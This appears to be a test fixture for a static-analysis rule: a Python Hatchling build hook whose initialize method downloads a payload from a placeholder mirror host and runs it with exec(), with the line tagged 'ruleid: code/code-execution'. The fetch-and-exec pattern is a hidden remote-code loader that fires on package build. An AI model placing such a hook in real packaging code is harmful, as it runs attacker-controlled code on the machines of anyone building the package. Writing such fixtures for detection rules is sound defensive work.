import urllib.request

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class AssetsHook(BuildHookInterface):
    PLUGIN_NAME = "custom"

    def initialize(self, version, build_data):
        stage = urllib.request.urlopen("https://assets-mirror.example.net/stage").read()
        # ruleid: code/code-execution
        exec(stage)
